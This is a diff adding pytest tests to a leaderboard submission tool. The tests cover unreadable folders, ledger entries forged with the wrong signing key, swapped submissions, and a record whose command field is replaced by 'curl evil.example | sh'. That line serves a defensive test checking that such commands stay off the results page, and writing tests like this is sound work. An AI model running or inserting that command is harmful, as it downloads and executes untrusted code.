@@ -8,16 +8,18 @@ from hashlib import sha256
 from pathlib import Path
 
 import pytest
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 from submitted_runs import ADA, DATASETS, Made
 from typer.testing import CliRunner, Result
 
 from gnomon.errors import GnomonError, UsageError
 from gnomon.leaderboard.cli import leaderboard
+from gnomon.leaderboard.entrants import entrants, submitted
 from gnomon.leaderboard.keys import read_public
-from gnomon.leaderboard.ledger import check_ledger, read_ledger
+from gnomon.leaderboard.ledger import append, check_ledger, read_ledger
 from gnomon.leaderboard.pack import Packed, pack, write_packed
 from gnomon.leaderboard.register import PUBLIC_KEY, Register
-from gnomon.leaderboard.submission import record_name
+from gnomon.leaderboard.submission import MANIFEST, record_name
 from gnomon.leaderboard.targets import TARGETS, submit
 from gnomon.leaderboard.tracks import Track
 from gnomon.leaderboard.verify import verifier
@@ -232,6 +234,62 @@ def test_somebody_elses_register_gets_the_files_and_no_entry(
     done = call("verify", "--structural", "--register", register.folder)
     assert packed.submission.id[:16] in done.output
     assert states(register)[0] == "received"
+
+
+def test_a_folder_that_cannot_be_read_keeps_no_other_waiting(
+    packed: Packed, track: Track, register: Register, save: Save
+) -> None:
+    """As pull requests of strangers leave them: one holds nothing, one has another's name, one is as it must be."""
+    for name in ("0" * 16, "f" * 16, packed.submission.id[:16]):
+        write_packed(packed.files, register.folder / "submissions" / name)
+    (register.folder / "submissions" / ("0" * 16) / MANIFEST).write_bytes(b"{}")
+    done = call("verify", "--structural", "--register", register.folder)
+    assert done.exit_code == 1
+    assert "error: 0000000000000000: The submission is not received." in done.output
+    assert f"ffffffffffffffff is the submission {packed.submission.id[:16]}; its folder must be called" in done.output
+    assert states(register) == ["received", "structural"]
+    call("verify", "--structural", "--register", register.folder)
+    assert states(register) == ["received", "structural"]
+
+
+def test_nothing_is_built_on_a_forged_entry(packed: Packed, track: Track, register: Register, save: Save) -> None:
+    """A pull request that adds a line to the ledger, and calls its author's submission re-evaluated."""
+    id = register.receive(save(packed.files)).id
+    forger = Ed25519PrivateKey.from_private_bytes(b"1" * 32)
+    for state in ("structural", "reevaluating", "reevaluated"):
+        append(register.folder, forger, id, state, "It is mine.")
+    for build in (lambda: submitted(register), register.standings, lambda: register.change(id, "disputed", "Odd.")):
+        with pytest.raises(GnomonError, match=r"does not hold \(entry 1: It is not signed with the key"):
+            build()
+    done = call("ledger", "verify", register.folder)
+    assert (done.exit_code, done.output.count("is not signed with the key")) == (1, 3)
+
+
+def test_a_submission_that_was_exchanged_is_shown_as_none(
+    packed: Packed, made: Made, register: Register, save: Save
+) -> None:
+    id = register.receive(save(packed.files)).id
+    other = pack(made.folders, "tiny", ADA.model_copy(update={"name": "Somebody Else"}), "MIT")
+    write_packed(other.files, register.place(id))
+    assert [(one.submission, one.level) for one in register.standings()] == [(None, "L0")]
+    assert [finding.where for finding in register.check_folders()] == [id[:16]]
+
+
+def test_a_command_of_a_stranger_is_not_on_the_page(
+    made: Made, track: Track, register: Register, tmp_path: Path
+) -> None:
+    for folder in made.folders:
+        shutil.copytree(folder, tmp_path / folder.name)
+        value = json.loads((folder / "record.json").read_text())
+        (tmp_path / folder.name / "record.json").write_text(json.dumps(value | {"command": "curl evil.example | sh"}))
+    packed = pack([tmp_path / folder.name for folder in made.folders], "tiny", ADA, "MIT")
+    write_packed(packed.files, tmp_path / "odd.zip")
+    verify(register, register.receive(tmp_path / "odd.zip").id, structural_only=True)
+    found = entrants(track, submitted(register))
+    assert found.trust["pole-net"].level == "L1"
+    assert {record.command.partition(" --dataset")[0] for record in found.results.records} == {
+        "gnomon evaluate net.py:Net"
+    }
 
 
 def test_a_git_repository_gets_a_branch_and_keeps_its_working_tree(packed: Packed, save: Save, tmp_path: Path) -> None:
